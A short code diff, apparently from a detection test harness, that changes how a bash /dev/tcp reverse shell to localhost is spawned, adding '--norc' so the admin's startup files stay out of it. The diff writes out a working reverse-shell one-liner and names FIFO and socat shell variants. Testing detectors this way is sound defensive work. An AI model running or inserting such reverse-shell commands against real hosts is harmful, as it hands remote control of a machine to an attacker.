@@ -181,7 +181,9 @@ def fifo_reverse_shell(run: Running) -> None:
 def dev_tcp_shell(run: Running) -> None:
     port = free_port()
     _nc_listener(run, port)
-    run.spawn(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"])
+    # --norc: the shell is the same to detection, and the admin's startup files (which
+    # may start tools of their own, such as pyenv's rehash and its lock) stay out of it.
+    run.spawn(["bash", "-c", f"bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1"])
 
 
 def socat_unix_exec(run: Running) -> None:
